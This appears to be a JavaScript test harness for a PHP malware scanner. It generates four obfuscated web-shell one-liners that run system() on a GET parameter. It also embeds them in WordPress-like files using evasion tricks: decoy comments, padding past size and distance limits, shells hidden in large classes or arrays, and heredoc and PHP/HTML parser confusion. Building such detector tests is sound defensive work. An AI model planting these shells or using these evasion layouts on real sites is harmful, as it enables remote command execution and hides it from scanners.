import { both, WP } from './harness.mjs';
const SH = {
  keyed: `$a = ['x' => 'system']; $a['x']($_GET['c']);`,
  closure: `$call = function ($f, $a) { return $f($a); }; $call('system', $_GET['c']);`,
  strfn: `$f = str_ireplace('X', '', 'sXyXsXtXeXm'); $f($_GET['c']);`,
  constcls: `class Cfg { const A = 'sys'; const B = 'tem'; } (Cfg::A . Cfg::B)($_GET['c']);`,
};
const pad = (n) => '\n' + Array.from({ length: Math.ceil(n / 40) }, (_, i) => `$pad_${i} = ${i} + 1; // filler\n`).join('');
const cases = {};
for (const [k, s] of Object.entries(SH)) {
  cases[`S0 control ${k} appended`] = `${WP}\n${s}\n`;
  // S1: a comment with 4096+ decoy points (STRONG, NEAR, INPUT) at the top caps positions()
  cases[`S1 capped points ${k}`] = WP.replace('<?php', '<?php\n/* ' + 'eval( $x( $_GET '.repeat(4200) + ' */\n') + `\n${s}\n`;
  // S2: decoys exhausting excerpts/budget: 70 small functions with eval( in a comment each, spaced
  cases[`S2 70 decoy excerpts ${k}`] = WP + '\n' + Array.from({ length: 70 }, (_, i) => `function dec_${i}() { /* eval( */ return ${i}; }\n` + `$big_${i} = '${'x'.repeat(4100)}';\n`).join('') + `\n${s}\n`;
  // S3: just over 1 MiB
  cases[`S3 over 1MiB ${k}`] = WP + '\n/*' + ' '.repeat((1 << 20) - WP.length) + '*/\n' + s + '\n';
  // S4: inside a closure in a long array statement (> 4 KiB statement)
  cases[`S4 closure in long array ${k}`] = WP + `\n$hooks = array(\n${Array.from({ length: 200 }, (_, i) => `  'hook_${i}' => 'callback_${i}',\n`).join('')}  'init' => function () { ${s} },\n);\n`;
  // S5: one-line method in a class larger than 4KiB, shell inside
  cases[`S5 in method of big class ${k}`] = WP + `\nclass Big_Helper {\n${Array.from({ length: 120 }, (_, i) => `  public function m${i}($v) { return $v + ${i}; }\n`).join('')}  public function run() { ${s} }\n}\n(new Big_Helper)->run();\n`;
}
// S6: input > 4 KiB away from a NEAR sink
cases['S6 input far from sink (keyed)'] = WP + `\n$cmd = $_GET['c'];\n` + pad(6000) + `$a = ['x' => 'system']; $a['x']($cmd);\n`;
cases['S6b input far, alone small'] = `<?php\n$cmd = $_GET['c'];\n` + pad(6000) + `$a = ['x' => 'system']; $a['x']($cmd);\n`;
// S7: split definition and use
cases['S7 split strfn'] = WP.replace('<?php', `<?php\n$wpf = str_ireplace('X', '', 'sXyXsXtXeXm');`) + `\n$wpf($_GET['c']);\n`;
// S8: inside ?> <?php switch with html braces
cases['S8 php/html switch'] = WP + `\n?>\n<style>body { color: red; }</style><script>function a(){ if(1){ </script>\n<?php ${SH.keyed} ?>\n<p>}}}</p>\n`;
// S9: heredoc containing braces & semicolons before
cases['S9 heredoc confusion'] = WP + `\n$t = <<<EOT\n  { ; } { { {\n  EOT;\n${SH.keyed}\n`;
cases['S9b nowdoc flexible'] = WP + `\n$t = <<<'EOT'\n  } ; }\n  EOT . '{';\n${SH.keyed}\n`;
cases['S9c comment with ?>'] = WP + `\n// a ?> b { \n${SH.keyed}\n`;
cases['S10 alt syntax'] = WP + `\nif (isset($_GET['c'])):\n  foreach ([1] as $i):\n    ${SH.keyed}\n  endforeach;\nendif;\n`;
const only = process.argv[2];
for (const [name, text] of Object.entries(cases)) {
  if (only && !name.includes(only)) continue;
  const r = both(text);
  console.log(`${name.padEnd(40)} ${(text.length/1024|0)}K base=${r.base} 001f0c1=${r.main} rt22=${r.cur} ${r.tb}ms/${r.tc}ms ${r.rules.slice(0,4).join(' ')}`);
}
